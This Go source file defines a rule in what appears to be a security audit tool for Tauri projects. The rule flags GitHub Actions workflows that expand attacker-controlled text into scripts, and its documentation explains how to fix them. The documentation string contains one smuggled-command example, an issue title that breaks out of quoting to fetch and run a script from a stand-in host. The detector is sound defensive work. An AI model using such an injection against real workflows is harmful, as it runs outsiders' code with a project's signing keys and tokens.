package checks

import (
	"fmt"
	"strings"

	"github.com/tauriaudit/tauriaudit/deps"
	"github.com/tauriaudit/tauriaudit/rules"
	"github.com/tauriaudit/tauriaudit/rules/source"
)

// WorkflowScriptInjection reports untrusted text that workflows run as
// code.
var WorkflowScriptInjection = &rules.Rule{
	ID:       "TA-DEP-017",
	Name:     "workflow-script-injection",
	Title:    "workflow expands attacker-controlled text into a script",
	Level:    rules.Error,
	Severity: 8.1,
	Tags:     []string{"supply-chain"},
	CWE:      []int{94, 78},
	Doc: `GitHub substitutes ${{ … }} expressions into a run: script (or actions/github-script's script:
input) before the shell or Node.js reads it. When the value is text an outsider writes — an issue
or pull-request title or body, a comment, a branch name (github.head_ref), a commit message or
author, a discussion, a wiki page name — a title such as ` + "`" + `a"; curl evil.sh | sh; echo "` + "`" + ` becomes a
command that runs with the job's secrets and token. In a release job that is the updater signing
key and the code-signing certificates.

The value is followed through env: (workflow, job, step), step outputs written to $GITHUB_OUTPUT,
job outputs (needs.J.outputs.X), local reusable-workflow inputs and local composite-action
inputs and outputs; a composite action's step is reported at its own line, with the calling step
as a related location. Writing such a value into $GITHUB_ENV or $GITHUB_PATH is reported too: a
newline in it defines any variable (BASH_ENV, NODE_OPTIONS, LD_PRELOAD) or PATH entry for every
later step. Writing it to $GITHUB_OUTPUT is followed, not reported: it matters where the output is
expanded. Passing the value through env: and reading it as "$TITLE" is the safe form and is
not reported.

**Level:** error when the workflow runs on an event any GitHub user can cause (issues,
issue_comment, pull_request_target, discussion, discussion_comment, workflow_run), or when the
job holds signing secrets (TAURI_SIGNING_PRIVATE_KEY*, Apple or Windows certificates) or a token
with write permissions — unless the workflow runs only on pull_request events, where a fork gets
neither. Warning otherwise (the repository's default token is unknown to the scan). Expressions
that cannot be read, local actions that are missing and uses: cycles are notes: what they hide is
not audited.

**Fix:** pass the value through env: and quote the variable, or validate it first.

Bad:

~~~yaml
on: issues
jobs:
  triage:
    steps:
      - run: echo "${{ github.event.issue.title }}"
~~~

Good:

~~~yaml
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
~~~

**False positives:** values that are validated (a regular expression in an earlier step, an
if: that only lets known labels through) are still reported; check the path and suppress with a
reason.`,
	Run: workflowScriptInjection,
}

func workflowScriptInjection(pass *rules.Pass) error {
	set := rules.Workflows.Of(pass.Project)
	if set == nil || set.Flows == nil {
		return nil
	}
	seen := map[string]int{} // location and path → index in out
	var out []rules.Finding
	levels := map[*deps.ExecJob]jobLevel{} // per job: a job's steps would cost steps²
	for _, in := range set.Flows.Injections {
		lv, ok := levels[in.Step.Job]
		if !ok {
			lv.level, lv.why = injectionLevel(in.Step.Job)
			levels[in.Step.Job] = lv
		}
		f := injectionFinding(in, lv)
		key := fmt.Sprintf("%s:%d:%d %s", f.Location.File, f.Location.Start.Line, f.Location.Start.Col, in.Value.Path())
		if i, ok := seen[key]; ok {
			if f.Level.Rank() > out[i].Level.Rank() {
				out[i] = f
			}
			continue
		}
		seen[key] = len(out)
		out = append(out, f)
	}
	for _, f := range out {
		pass.Report(f)
	}
	for _, d := range append(append([]*source.Error(nil), set.Graph.Diagnostics...), set.Flows.Unreadable...) {
		pass.Report(rules.Finding{Location: d.Loc, Level: rules.Note, Subject: "not audited: " + d.Msg,
			Message: "workflow not fully audited: " + d.Msg})
	}
	return nil
}

// jobLevel is a job's level for injections, and why.
type jobLevel struct {
	level rules.Level
	why   string
}

func injectionFinding(in *deps.Injection, lv jobLevel) rules.Finding {
	es := in.Step
	level, why := lv.level, lv.why
	sink := "expanded into run:"
	switch in.Sink {
	case "github-script":
		sink = "expanded into actions/github-script's script"
	case "$GITHUB_ENV", "$GITHUB_PATH":
		sink = "written to " + in.Sink
	}
	where := "step " + stepName(es.Step)
	if es.Action != nil {
		where += " of action " + es.Action.Dir
	}
	related := append(hopsRelated(in.Value), execRelated(es)...)
	return rules.Finding{Location: in.Loc, Level: level, Subject: in.Value.Source + " → " + in.Sink,
		Message: strings.TrimSpace(fmt.Sprintf("%s → %s in %s of job %s %s", in.Value.Path(), sink, where, jobLabel(es.Job), why)),
		Related: related}
}

// injectionLevel grades an injection by who can supply the text and what
// the job holds.
func injectionLevel(ej *deps.ExecJob) (rules.Level, string) {
	if ev := anyUserTrigger(ej); ev != "" {
		return rules.Error, "(on " + ev + ", which any GitHub user can cause)"
	}
	if forkSandboxed(ej.Root) {
		return rules.Warning, "(pull-request events: a fork's run has no secrets)"
	}
	if s := execSigningSecrets(ej); len(s) > 0 {
		return rules.Error, "with signing secrets " + depList(s, 3)
	}
	if w := ej.Permissions.Writes(); len(w) > 0 {
		return rules.Error, "with a token that can write " + strings.Join(w, ", ")
	}
	return rules.Warning, ""
}
